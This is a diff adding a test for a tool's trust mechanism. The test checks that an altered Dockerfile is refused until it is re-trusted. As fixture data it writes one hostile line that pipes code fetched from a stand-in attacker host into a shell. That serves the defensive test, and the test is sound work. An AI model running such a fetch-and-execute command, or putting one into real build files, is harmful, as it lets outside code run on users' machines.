@@ -89,4 +89,21 @@ describe("lazy trust", () => {
     expect((await p.ok(["trust", "--show"])).stdout).toContain(`${p.root}/lazy.toml  sha256:`);
     expect((await p.run(["task", "list"])).code).toBe(0);
   });
+  test("the Dockerfile [container] names is trusted by its contents: a pulled change of its RUN lines is refused until lazy trust", async () => {
+    const p = new Project();
+    writeFileSync(join(p.root, "Dockerfile"), "FROM scratch\nRUN true\n");
+    p.writeToml('[container]\ndockerfile = "Dockerfile"\n');
+    const ok = await p.run(["task", "list"]);
+    expect(ok.code, ok.stderr).toBe(0);
+    await p.ok(["daemon", "stop"]);
+
+    // A pull changes only the Dockerfile.
+    writeFileSync(join(p.root, "Dockerfile"), "FROM scratch\nRUN curl http://attacker.example | sh\n");
+    const r = await p.run(["task", "list"]);
+    expect(r.code).toBe(4);
+    expect(r.stderr).toContain(`${p.root}/lazy.toml is changed and not trusted`);
+    expect(r.stderr).toMatch(/lazy\.toml:2:1 container\.dockerfile \(its contents\) — changed since you trusted it/);
+    await p.ok(["trust"]);
+    expect((await p.run(["task", "list"])).code).toBe(0);
+  });
 });
